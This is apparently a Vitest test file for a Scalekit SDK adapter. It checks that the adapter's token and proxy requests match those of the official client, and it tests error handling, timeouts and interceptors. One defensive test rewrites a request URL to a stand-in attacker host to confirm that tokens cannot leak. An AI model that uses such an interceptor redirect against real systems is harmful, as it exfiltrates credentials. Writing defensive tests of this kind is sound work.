// These tests compare the requests of lib/scalekit/scalekit-sdk.ts with the requests of the unmodified ScalekitClient.

import { ScalekitClient } from '@scalekit-sdk/node';
import { expect, onTestFinished, test } from 'vitest';
import * as z from 'zod';
import { StoredSecret } from '../../../lib/aws/stored-secret.ts';
import { path } from '../../../lib/provider/path.ts';
import type { ProviderRequestOptions } from '../../../lib/provider/provider-client.ts';
import { AccessToken } from '../../../lib/scalekit/access-token.ts';
import { type Account, AccountsApi } from '../../../lib/scalekit/accounts-api.ts';
import { ControlPlane } from '../../../lib/scalekit/control-plane.ts';
import { encodeRequest } from '../../../lib/scalekit/provider-request.ts';
import { ScalekitSdk } from '../../../lib/scalekit/scalekit-sdk.ts';
import { Deadline } from '../../../lib/time/deadline.ts';
import type { RecordedRequest } from '../../../local/scalekit/recorded-request.ts';
import { startScalekitEmulator } from '../../../local/scalekit/start-scalekit-emulator.ts';
import { startRawServer } from '../../support/raw-server.ts';
import { startRecordingServer } from '../../support/recording-server.ts';

const CONNECTION = 'acme';
const IDENTIFIER = 'user_ada';
const LIMITS = { signal: new AbortController().signal, timeoutMs: 5_000 };
// These headers differ, because our adapter supports fewer encodings and keeps connections open.
const OWN_HEADERS = new Set(['accept-encoding', 'connection']);

const TokenAnswer = z.object({ access_token: z.string() });

/** Returns both clients. They use an emulated Scalekit and a provider that accepts every request. */
async function start() {
  const provider = await startRecordingServer((_request, response) => response.end('{}'));
  onTestFinished(provider.close);
  const emulator = await startScalekitEmulator({
    seed: {
      connections: [{ name: CONNECTION, connector: 'acme', providerUrl: provider.url }],
      grants: [],
      accounts: [
        { connection: CONNECTION, identifier: IDENTIFIER, status: 'ACTIVE', accessToken: 'a-token' },
      ],
    },
  });
  onTestFinished(emulator.close);
  const { url } = emulator;
  const client = new ScalekitClient(url, emulator.clientId, emulator.clientSecret);
  const sdk = new ScalekitSdk({ environmentUrl: url, clientId: emulator.clientId });

  return {
    emulator,
    client,
    sdk,
    /**
     * Makes a call, because the SDK requests a token only after a rejected call. After a proxy call, the SDK does not
     * do this.
     */
    async authorizeSdk() {
      await client.actions.getOrCreateConnectedAccount({
        connectionName: CONNECTION,
        identifier: IDENTIFIER,
      });
    },
    async authorizeOurs() {
      const { body } = await sdk.requestToken(emulator.clientSecret, LIMITS);
      sdk.setAccessToken(TokenAnswer.parse(JSON.parse(body)).access_token);
    },
  };
}

/** Fails if the SDK's request and ours differ. The message lists all differences. */
function expectSame(requests: readonly RecordedRequest[]): void {
  const [bySdk = {}, byUs = {}, ...others] = requests.map(facts);
  const names = new Set([...Object.keys(bySdk), ...Object.keys(byUs)]);
  const differences = [...names]
    .filter((name) => bySdk[name] !== byUs[name])
    .map((name) => `${name} is ${bySdk[name]} by the SDK, ${byUs[name]} by us`);
  expect(differences, differences.join('; ')).toEqual([]);
  expect(others).toEqual([]);
}

function facts({ method, path, authorization, headers, forwarded }: RecordedRequest): Record<string, string> {
  return {
    ...{ method, path, authorization },
    ...named('header', headers),
    ...(forwarded && {
      'forwarded method': forwarded.method,
      'forwarded URL': forwarded.url,
      'forwarded body': forwarded.body,
      ...named('forwarded header', forwarded.headers),
    }),
  };
}

function named(kind: string, headers: Readonly<Record<string, string>>): Record<string, string> {
  const pairs = Object.entries(headers).filter(([name]) => !OWN_HEADERS.has(name));
  return Object.fromEntries(pairs.map(([name, value]) => [`${kind} ${name}`, value]));
}

test("our request for an access token equals the SDK's request", async () => {
  // Prepare
  const { emulator, authorizeSdk, authorizeOurs } = await start();

  // Act
  await authorizeSdk();
  await authorizeOurs();

  // Assess
  const requests = emulator.requests.filter(({ kind }) => kind === 'token');
  expectSame(requests);
  expect(requests[1]).toMatchObject({
    method: 'POST',
    path: '/oauth/token',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    status: 200,
  });
  // The emulator returns a token only if all of these fields have the right values.
  const fields = ['grant_type', 'client_id', 'client_secret'];
  expect(requests.map(({ formFields }) => formFields)).toEqual([fields, fields]);
});

const THINGS = path`/things/${'a b'}`;

test.each<{ name: string; method: string } & ProviderRequestOptions>([
  { name: 'a GET', method: 'GET' },
  { name: 'a GET with a query', method: 'GET', query: { q: 'a b&c=d/é+', page: 2, full: true } },
  { name: 'a GET with headers', method: 'GET', headers: { accept: 'text/plain', 'x-api-key': 'a' } },
  { name: 'a POST with JSON', method: 'POST', json: { title: 'Ünïcode', labels: ['a', 'b'] } },
  { name: 'a POST with a form', method: 'POST', form: { title: 'Ünïcode & more', page: 2 } },
  { name: 'a PATCH with JSON', method: 'PATCH', json: { title: null } },
  { name: 'a DELETE', method: 'DELETE' },
])("our proxy request equals the SDK's request: $name", async ({ name: _, method, ...options }) => {
  // Prepare
  const { emulator, client, sdk, authorizeSdk, authorizeOurs } = await start();
  await authorizeSdk();
  await authorizeOurs();
  emulator.reset();
  const { query, json, form } = options;
  const request = encodeRequest(method, THINGS, options);

  // Act
  await client.actions.request({
    connectionName: CONNECTION,
    identifier: IDENTIFIER,
    method,
    path: THINGS.value,
    // The test sets the content type, because the SDK sends no charset, and sends a form as JSON.
    headers: request.headers,
    ...(query && { queryParams: query }),
    ...(form && { formData: form }),
    body: json,
  });
  await sdk.proxy({
    ...request,
    connection: CONNECTION,
    identifier: IDENTIFIER,
    provenSince: undefined,
    ...LIMITS,
  });

  // Assess
  expectSame(emulator.requests);
  expect(emulator.requests[1]).toMatchObject({
    method,
    headers: { connection_name: CONNECTION, identifier: IDENTIFIER, 'x-api-version': expect.any(String) },
    authorization: 'valid',
    forwarded: { method },
    status: 200,
  });
});

test.each<[rpc: string, ask: (accounts: AccountsApi, deadline: Deadline) => Promise<unknown>]>([
  ['GetConnectedAccountDetails', (accounts, deadline) => accounts.find(account(IDENTIFIER), deadline)],
  ['CreateConnectedAccount', (accounts, deadline) => accounts.status(account('user_grace'), deadline)],
  [
    'GetMagicLinkForConnectedAccount',
    (accounts, deadline) => accounts.createLink(account(IDENTIFIER), deadline),
  ],
  ['VerifyConnectedAccountUser', (accounts, deadline) => accounts.verifyUser('none', IDENTIFIER, deadline)],
])('the SDK declares the REST route of %s that lib/scalekit/accounts-api.ts uses', async (rpc, ask) => {
  // Prepare
  const { emulator, sdk } = await start();
  const secret = new StoredSecret({ secret: emulator.clientSecret });
  const controlPlane = new ControlPlane(sdk, new AccessToken(sdk, secret));
  const accounts = new AccountsApi(controlPlane, 'https://app.example/verify', secret);
  const deadline = new Deadline(LIMITS.timeoutMs);
  onTestFinished(() => deadline.end());

  // Act
  await ask(accounts, deadline).catch(() => undefined);

  // Assess
  expect(emulator.requests.map((request) => request.rpc)).toContain(rpc);
});

test("an interceptor of the SDK's axios instance gets every token, account and proxy request", async () => {
  // Prepare
  const { emulator, sdk, authorizeOurs } = await start();
  const seen: unknown[] = [];
  sdk.core.axios.interceptors.request.use((config: { url?: string }) => {
    seen.push(config.url);
    return config;
  });

  // Act
  await authorizeOurs();
  const query = { connector: CONNECTION, identifier: IDENTIFIER };
  await sdk.control({ method: 'GET', path: '/api/v1/connected_accounts/details', query, ...LIMITS });
  await sdk.proxy(thingOf(IDENTIFIER));

  // Assess
  expect(seen).toEqual([
    'oauth/token',
    `/api/v1/connected_accounts/details?connector=${CONNECTION}&identifier=${IDENTIFIER}`,
    `${sdk.core.envUrl}/proxy/things/a%20b`,
  ]);
  expect(emulator.requests).toHaveLength(3);
  for (const { headers } of emulator.requests) {
    expect(headers).toMatchObject({
      'user-agent': expect.stringMatching(/^Scalekit-Node\/2\.11\.0 Node\/v/),
      'x-sdk-version': 'Scalekit-Node/2.11.0',
    });
  }
});

test.each([
  [404, 'a refusal'],
  [429, 'a rate limit'],
  [500, 'a fault'],
])('a response with status %i is returned and not converted to an exception of the SDK', async (status) => {
  const server = await startRecordingServer((_request, response) => {
    response.writeHead(status, { 'retry-after': '7' }).end('{"error":"no"}');
  });
  onTestFinished(server.close);
  const sdk = new ScalekitSdk({ environmentUrl: server.url, clientId: 'client' });

  const answer = await sdk.proxy(thingOf(IDENTIFIER));

  expect(answer).toMatchObject({ status, headers: { 'retry-after': '7' }, body: '{"error":"no"}' });
});

test('a lost connection is a TransportError and not an exception of the SDK', async () => {
  const url = await startRawServer((socket) => socket.once('data', () => socket.destroy()));
  const sdk = new ScalekitSdk({ environmentUrl: url, clientId: 'client' });

  await expect(sdk.proxy(thingOf(IDENTIFIER))).rejects.toMatchObject({
    name: 'TransportError',
    failure: 'connection_lost',
  });
});

test('concurrent requests have separate limits and connection callbacks', async () => {
  // Prepare
  const server = await startRecordingServer(() => {});
  onTestFinished(server.close);
  const sdk = new ScalekitSdk({ environmentUrl: server.url, clientId: 'client' });
  const connected: string[] = [];
  const ended: string[] = [];
  const send = (name: string, timeoutMs: number) =>
    sdk
      .proxy({ ...thingOf(name), timeoutMs, onConnection: () => void connected.push(name) })
      .catch(({ failure }) => ended.push(`${name}: ${failure}`));

  // Act
  await Promise.all([send('user_slow', 300), send('user_fast', 50)]);

  // Assess
  expect(connected.sort()).toEqual(['user_fast', 'user_slow']);
  expect(ended).toEqual(['user_fast: timed_out', 'user_slow: timed_out']);
});

test('an interceptor cannot send a request, including its token, to another host', async () => {
  const { emulator, sdk, authorizeOurs } = await start();
  await authorizeOurs();
  emulator.reset();
  sdk.core.axios.interceptors.request.use((config: { url?: string }) => {
    config.url = 'https://attacker.example/collect';
    return config;
  });

  await expect(sdk.proxy(thingOf(IDENTIFIER))).rejects.toThrow('another host');
  expect(emulator.requests).toEqual([]);
});

test('a request that does not go through ScalekitSdk has no limits and is rejected', async () => {
  const { sdk } = await start();

  await expect(sdk.core.axios.request({ url: '/keys' })).rejects.toThrow('go through ScalekitSdk');
});

function thingOf(identifier: string) {
  const request = encodeRequest('GET', THINGS, {});
  return { ...request, connection: CONNECTION, identifier, provenSince: undefined, ...LIMITS };
}

function account(identifier: string): Account {
  return { connector: 'acme', connection: CONNECTION, connectionSetting: 'ACME_CONNECTION', identifier };
}
